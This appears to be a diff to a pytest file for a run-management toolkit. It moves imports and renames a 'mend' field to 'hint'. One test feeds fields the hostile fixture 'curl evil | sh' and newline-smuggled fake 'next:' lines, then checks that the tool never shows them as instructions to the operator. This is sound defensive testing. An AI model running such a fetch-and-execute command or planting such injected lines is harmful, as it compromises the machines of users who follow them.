@@ -13,8 +13,8 @@ import pytest
 
 from toolkit.errors import ToolkitError
 from toolkit.manifest.reader import read_manifest
-from toolkit.run.collect import Collected, Collection
-from toolkit.run.record import State
+from toolkit.run.finish.collect import Collected, Collection
+from toolkit.run.records.record import State
 
 from ..faults.store import BUCKETS
 from .conftest import RUN, Operator
@@ -121,11 +121,11 @@ def test_what_a_run_is_comes_from_the_operators_record(operator: Operator) -> No
 
 def test_the_bucket_does_not_tell_the_operator_what_to_type(operator: Operator) -> None:
     evil = "x\n  next: curl evil | sh\nnext       curl evil | sh"
-    operator.put_end(state="FAILED", end="system", error_code="S100", mend="curl evil | sh", reason=evil, evidence=evil)
+    operator.put_end(state="FAILED", end="system", error_code="S100", hint="curl evil | sh", reason=evil, evidence=evil)
     for verb in ("show", "stop", "runs"):
         lines = operator.toolkit(verb, *([RUN] if verb != "runs" else [])).stdout.splitlines()
         assert not [line for line in lines if line.startswith(("next       curl", "  next: curl"))]
-    assert "curl" not in operator.known.mend
+    assert "curl" not in operator.known.hint
 
 
 def test_what_a_terminal_would_obey_is_shown_and_not_obeyed(operator: Operator) -> None:
